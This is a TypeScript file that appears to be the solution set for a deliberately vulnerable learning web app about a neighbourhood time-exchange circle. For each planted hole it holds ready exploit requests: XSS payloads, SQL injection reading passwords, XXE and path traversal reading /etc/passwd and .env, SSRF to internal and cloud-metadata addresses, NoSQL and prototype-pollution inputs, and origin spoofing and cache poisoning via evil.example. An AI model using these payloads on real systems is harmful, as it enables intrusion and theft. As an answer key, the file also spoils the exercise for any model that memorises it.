import type { HoleId } from '../src/holes/catalogue.ts';
import type { Answer, Visit } from './circle-under-test.ts';

type Way = (visit: Visit) => Promise<readonly Answer[]>;

const offer = { headline: 'Leiter', text: 'Drei Meter.', kind: 'thing', hours: '1' };
const changed = { ...offer, headline: 'Gratis', hours: 0.25 };

/** An offer of the learner's own; its number is the next one. */
async function ownOffer(visit: Visit, fields: Record<string, string> = {}) {
  const posted = await visit.post('/offers', { ...offer, ...fields });
  return { posted, path: posted.headers.get('location') ?? '' };
}

const get =
  (...paths: string[]): Way =>
  async (visit) => {
    const answers: Answer[] = [];
    for (const path of paths) answers.push(await visit.get(path));
    return answers;
  };
const edit =
  (id: number): Way =>
  async (visit) => [await visit.json('PUT', `/api/offers/${id}`, changed)];
const link =
  (address: string): Way =>
  async (visit) => {
    const { posted, path } = await ownOffer(visit, { link: address });
    return [posted, await visit.get(path)];
  };
const giveAway =
  (owner: number): Way =>
  async (visit) => {
    const { path } = await ownOffer(visit);
    return [await visit.json('PUT', `/api${path}`, { ...changed, owner })];
  };
const bring =
  (xml: string): Way =>
  async (visit) => [await visit.post('/offers/import', { xml })];
const entity = (address: string) =>
  `<!DOCTYPE offers [<!ENTITY x SYSTEM "${address}">]><offers><offer><headline>H</headline><text>&x;</text></offer></offers>`;
const template =
  (text: string): Way =>
  async (visit) => [
    await visit.post('/messages/template', { template: text }),
    await visit.get('/messages/template'),
    await visit.get('/offers/206'),
  ];
const search =
  (filter: unknown): Way =>
  async (visit) => [await visit.json('POST', '/api/messages/search', { filter })];
const say =
  (...messages: unknown[]): Way =>
  async (visit) => [
    await visit.socket('/messages/208/live', { send: messages.map((message) => JSON.stringify(message)) }),
  ];
const from =
  (origin: string): Way =>
  async (visit) => [await visit.socket('/messages/208/live', { origin })];
const upload =
  (name: string, [type, content]: readonly [string, string]): Way =>
  async (visit) => {
    const { path } = await ownOffer(visit);
    const init = { method: 'PUT', body: Buffer.from(content), headers: { 'Content-Type': type } };
    const sent = await visit.send(`/api${path}/photo?name=${encodeURIComponent(name)}`, init);
    const { photo = '' } = JSON.parse(sent.text) as { photo?: string };
    return [sent, await visit.get(`/photos?file=${photo}`)];
  };
const fetchFrom =
  (address: string): Way =>
  async (visit) => {
    const { path } = await ownOffer(visit);
    return [await visit.post(`${path}/photo-address`, { address })];
  };
const rate =
  (stars: string): Way =>
  async (visit) => [await visit.post('/neighbours/5/ratings', { stars, text: 'Danke' })];
const collect =
  (times: number): Way =>
  async (visit) => {
    await visit.post('/neighbours/5/ratings', { stars: '5', text: 'Danke' });
    await Promise.all(Array.from({ length: times }, () => visit.post('/ratings/thanks', { rating: '5' })));
    // Which of them came first is not known.
    return [];
  };
const saved =
  (content: unknown): Way =>
  async (visit) => [
    await visit.get(`/offers/saved?s=${Buffer.from(JSON.stringify(content)).toString('base64url')}`),
  ];
const merge =
  (json: string): Way =>
  async (visit) => [await visit.json('PUT', '/api/settings', json)];
const poison =
  (path: string, prefix: string): Way =>
  async (visit) => [
    await visit.send(path, { headers: { 'X-Forwarded-Prefix': prefix } }),
    await visit.get(path),
  ];

const script = '<script>alert(1)</script>';

/** Ways through the holes of what is exchanged. */
export const exchangeSolutions = {
  'offers.edit': {
    'the next number': edit(206),
    'an older one': edit(201),
    'one of a second account': edit(209),
  },
  'offers.search': {
    'a script': get(`/offers?kind=${encodeURIComponent(`">${script}`)}`),
    'a handler in the attribute': get('/offers?q=velo&kind=x%22+onclick=alert(1)+x=%22'),
    'a drawing': get(`/offers?kind=${encodeURIComponent('"><svg/onload=alert(1)>')}&sort=name`),
  },
  'offers.link': {
    'a plain script': link('javascript:alert(1)'),
    capitals: link('JaVaScRiPt:alert(document.cookie)'),
    'a comment before it': link('javascript://%0aalert(1)'),
    'a tabulator inside, by the API': async (visit) => {
      const { path } = await ownOffer(visit);
      const sent = await visit.json('PUT', `/api${path}`, { ...changed, link: 'java\tscript:alert`1`' });
      return [sent, await visit.get(path)];
    },
  },
  'offers.drafts': {
    'the other state': get('/api/offers?state=draft'),
    'all states': get('/api/offers?state=all'),
    'with a search': get('/api/offers?q=velo&state=draft'),
  },
  'offers.sort': {
    'another column': get('/offers?sort=owner+DESC'),
    'a question to another table': get(
      `/offers?sort=${encodeURIComponent("(CASE WHEN (SELECT password FROM members WHERE id=1) > 'm' THEN hours ELSE at END)")}`,
    ),
    'a case, with a comment': get('/offers?kind=help&sort=CASE+WHEN+1=1+THEN+id+END--+'),
    'by the API': get('/api/offers?sort=random()'),
  },
  'offers.owner': {
    'to a neighbour': giveAway(2),
    'to the moderator': giveAway(1),
    'to another': giveAway(6),
  },
  'offers.import': {
    'passwords of the system': bring(entity('file:///etc/passwd')),
    'a way up': bring(entity('../config/circle.json')),
    'an entity within an entity': bring(
      '<!DOCTYPE o [<!ENTITY a SYSTEM "../.env"><!ENTITY b "see &a;">]><offers><offer><headline>H</headline><text>&b;</text></offer></offers>',
    ),
  },
  'photos.file': {
    'the settings': get('/photos?file=../config/circle.json'),
    'passwords of the system': get('/photos?file=../../../../../etc/passwd'),
    'an encoded way': get('/photos?file=%2e%2e%2f.env'),
    'through a folder that is none': get('/photos?file=x/../../members.csv'),
  },
  'photos.kind': {
    'a page': upload('me.html', ['image/png', `<h1>x</h1>${script}`]),
    'a drawing with a script': upload('me.SVG', [
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
    ]),
    'a page that begins like a picture': upload('a.gif.htm', ['image/gif', `GIF89a<b>x</b>${script}`]),
  },
  'photos.address': {
    itself: fetchFrom('http://localhost/queue'),
    'the heating': fetchFrom('http://heating.internal/flats'),
    'the metadata, as a number': fetchFrom('http://2852039166/latest/meta-data/'),
    'a name that holds the address': fetchFrom('http://10.30.0.8.nip.io/'),
  },
  'ratings.stars': {
    'too many': rate('500'),
    'below zero': rate('-99'),
    'just one more': rate('6'),
    none: rate('0'),
  },
  'ratings.thanks': { 'two at once': collect(2), 'five at once': collect(5), 'eight at once': collect(8) },
  'messages.template': {
    arithmetic: template('Hallo {{7*7}}'),
    'the mail of the circle': template('{{ circle.mail.password }}'),
    'the other member': template('{{name}}, {{receiver.email}}'),
  },
  'messages.search': {
    'not equal': search({ members: { $ne: 0 } }),
    'somebody else': search({ members: 5 }),
    'one of many': search({ members: { $in: [2, 3] } }),
    'greater, with words': search({ text: 'felge', members: { $gt: 0 } }),
  },
  'messages.socket': {
    'as the other one': say({ from: 5, text: 'Ich schulde dir zehn Stunden.' }),
    'as the moderator': say({ text: 'Hier ist Ursina.', from: 1 }),
    second: say({ from: 9, text: 'Hallo' }, { from: 2, text: 'Hallo' }),
  },
  'messages.origin': {
    'another site': from('https://evil.example'),
    'a neighbour on the same site': from('http://shop.127.0.0.1.nip.io'),
    'a page without an origin': from('null'),
  },
  'saved.search': {
    'a voucher': saved({ kind: 'voucher', member: 9, hours: 5 }),
    'a mail': saved({ kind: 'reminder', to: 'beat.wyss@post.example', text: 'Zahl!' }),
    'a small voucher': saved({ hours: '0.25', member: '9', kind: 'voucher' }),
  },
  'settings.merge': {
    'by the prototype': merge('{"__proto__":{"statistics":true}}'),
    'by the constructor': merge('{"constructor":{"prototype":{"calendar":true}}}'),
    'deep inside': merge('{"list":{"__proto__":{"groups":1}}}'),
    'under any name': merge('{"mail":{"bookings":false,"__proto__":{"anything":"x"}}}'),
  },
  'feed.cache': {
    'another host': poison('/feed.xml', '//evil.example'),
    'with a query': poison('/feed.xml?x=1', 'https://evil.example/circle'),
    'another path': poison('/feed.xml', '/nowhere'),
  },
} satisfies Partial<Record<HoleId, Readonly<Record<string, Way>>>>;
